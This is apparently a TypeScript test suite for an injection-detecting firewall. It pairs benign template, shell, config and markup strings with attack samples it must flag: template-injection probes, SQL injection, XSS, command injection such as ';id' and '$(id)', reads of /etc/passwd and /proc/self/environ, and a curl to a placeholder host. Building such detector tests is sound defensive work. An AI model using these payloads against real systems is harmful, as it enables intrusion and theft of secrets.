// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what looks like a template is the matter here
import assert from "node:assert/strict";
import { test } from "node:test";
import { createExaminer, DETECTORS } from "../../src/detect/index.ts";
import { bytes, SURE } from "./finder-tables.ts";

// What people write into manuals, notes and settings, beside what an attacker writes in the same frame.

const examiner = createExaminer(DETECTORS);

function sureOf(text: string): string[] {
  return [...examiner.examine(bytes(text))].filter(([, { weight }]) => weight >= SURE).map(([, { kind }]) => kind);
}

const NOTES = "# setfiles\n\n> Sets contexts.\n\n- Set them all:\n\n";

const TABLE: readonly (readonly [what: string, honest: readonly string[], attacks: readonly string[]])[] = [
  [
    "shortcodes of Hugo",
    ['{{% include "/_common/x.md" %}}', "{{% include file=\"x\" %}} and more", "{{% with a %}}", "{{< ref \"a.md\" >}}", "see\n{{% include \"a.md\" %}}\nbelow"],
    ['{% include "/etc/passwd" %}', "{{% set x = ''.__class__ %}}", "{% set x = 1 %}", "{{{% import os %}", '{% include "a" %} }}', "{%% include \"a\" %}}".replace("%%", "%").replace("}}", "}")],
  ],
  [
    "methods of templates of Go",
    ['{{ .Get "title" }}', '<h2>{{ .Get "title" }}</h2>', '{{ .Param "x" }}', '{{ .Render "summary" }}', '{{ .GetPage "/blog" }}'],
    ['{{ .System "ls" }}', '{{.Run "id"}}', '{{ .Exec "cat" }}', '{{ .Getenv "A" }}', '{{ .File "a" }}'],
  ],
  [
    "place-holders with a range or a date",
    ["{{3-9}}", "`[{{a-z}}][{{0-9}}]`", "-date={{2019-06}}", "{{2019-06-30}}", "'#{{20-30}}'", "{{66+99|2^4|6 feet to cm}}"],
    ["{{7*7}}", "{{3*'3'}}", "{{1+1}}", "{{9-3}}", "{{ 3-9 }}", "{{3-9-1}}", "{{7*7|safe}}", "{{20-2|x}}", "${9-8}", "#{7*7}"],
  ],
  [
    "tests of a shell",
    ["`[[ -z ${{variable}} ]]`", "`[[ ! -f ${{path}} ]]`", '[[ "${{a}}" == b ]]', "[[ $a = ${{b}} ]]", "[[ -n ${{x}} ]] && echo y"],
    ["${{<%[%'\"}}%\\.", "{{a}}${b}<%= c %>", "[[a]]{{b}}${c}", "<%={{={@{#{${a}}%>", "[[ -z {{7*7}} ]]"],
  ],
  [
    "what a shell's line escapes",
    ["#{Regexp.escape(ENV[\"s\"])}/' eqns.txt", '#{Shellwords.escape(ENV["A"])}'],
    ["#{ENV['SECRET']}", "#{Marshal.dump(ENV['A'])}", "#{Regexp.escape(`id`)}#{ENV[\"a\"]}"],
  ],
  [
    "patterns in prose about behaviour",
    ["behavior of //g when () is used: (?<=[a-z]{2}=)\\d+", "import (?<name>\\d{4}) from the list", "the expression (?<!a)\\b"],
    ["a:b;x:expression(go(1))", "x:expression(go(1))", "<a style=\"x:\\65xpression(go(1))\">", "behaviour:url(a.htc)", "-moz-binding:url(//h.example/a)"],
  ],
  [
    "an end of a tag in a span of code",
    ['">`', "'>`", '"/>`'],
    ["' or 1=1-- -", '" or 1=1#', "') -- -", "'--", '">`<script>go(1)</script>'],
  ],
  [
    "files that settings name",
    ["log_file=/var/log/agent.log", "NRIA_LOG_FILE=/var/log/nr-infra.log", "APP_CONFIG_PATH=/etc/app/config.yml", "data-dir=/var/lib/shop", 'PID_FILE="/run/app.pid"'],
    ["log_file=/var/log/nginx/access.log", "log_file=/etc/passwd", "file=/var/log/agent.log", "x_path=/opt/../etc/passwd", "ca_cert=/proc/self/environ", "log_file=/var/log/auth.log"],
  ],
  [
    "what Office copies",
    ["<p class=MsoNormal>a</p><!--[if gte mso 9]><xml></xml><![endif]-->", "<!--[if mso]><table><tr><td><![endif]-->", "<!--[if (gte mso 9)]><v:fill type=\"tile\"/><![endif]-->", "<!--[if gt mso 11]>a<![endif]-->", "<!--[if lte mso 16]>b<![endif]-->"],
    ["<!--[if gte IE 4]><SCRIPT>go(1)</SCRIPT><![endif]-->", "<!--[if mso]><script>go(1)</script><![endif]-->", "<!--[if mso 9]><img src=x onerror=go(1)><![endif]-->", "<!--[if true]>a<![endif]-->", "<!--[if mso|IE]>a<![endif]-->"],
  ],
  [
    "members of what is asked for",
    ["id,name,orders{id,total}", "posts{id,message,from{name}}", "user{ip,agent}", "me{id,name}", "page{head,tail}"],
    ["{id,-a}", "{cat,/etc/passwd}", "x\n{id,total}", "a;{ls,-la}", "n{cat,/etc/passwd}", "{id,}"],
  ],
  [
    "tools of administration",
    ["kubectl get pods -l app=web", "`kubectl get po -o wide`", "kubectl apply -f deployment.yaml", "helm upgrade --install web ./chart", "`git clone {{path/to/file.bundle}}`", "journalctl -u nginx -f", "terraform plan -out=tfplan", "`strace -e trace=file a`".replace("-e ", "--trace="), "dstat --battery"],
    ["`kubectl get pods;id`", "kubectl exec -it web -- sh", "`kubectl get secrets -A`", "kubectl get pods -l a=b | sh", "`git clone 'ext::sh -c id'`", "`git -c core.pager=id log`", "`docker run -v /:/x a`", ";kubectl get pods -l a=b", "x`kubectl get pods -l a`", "$(kubectl get pods -l a)", "journalctl -u a > /tmp/x", "`id`", "`cat /etc/passwd`", "mysqldump -u root --all-databases > /tmp/x"],
  ],
  [
    "markup behind a word that is a command as well",
    ["<p>Ship &amp; test</p>", "<li>Rock &amp; cut</li>", "<p>Terms &amp; help</p>", "<td>R&amp;D; call</td>", "<code>sudo apt update &amp;&amp; sudo apt upgrade</code>"],
    ["<p>a;id</p>", ";cat</b>", "a & cat /etc/passwd</p>", "<p>a|cat /etc/passwd</p>", "<p>$(id)</p>", "<p>;cat</etc/passwd</p>", "<b>x</b>&& curl http://h.example/a"],
  ],
  [
    "a line of Markdown that is a span of code",
    [`${NOTES}\`sudo setfiles /etc/selinux/contexts {{path}}\`\n\n- Set one:`, `${NOTES}\`dash -e a.sh\`\n\n- Run it:\n\n\`{{echo a}} | dash\``, `${NOTES}\`cat /etc/os-release\``],
    ["`cat /etc/passwd`", "x\n`cat /etc/passwd`", "\n`cat /etc/passwd`", `${NOTES}x\`cat /etc/passwd\``],
  ],
]; // biome-ignore format: one row each

for (const [what, honest, attacks] of TABLE) {
  test(`The firewall lets ${what} pass`, () => {
    for (const text of honest) assert.deepEqual(sureOf(text), [], text);
  });
  test(`The firewall is sure of attacks that look like ${what}`, () => {
    assert.deepEqual(attacks.filter((text) => sureOf(text).length === 0), []); // biome-ignore format: one line
  });
}
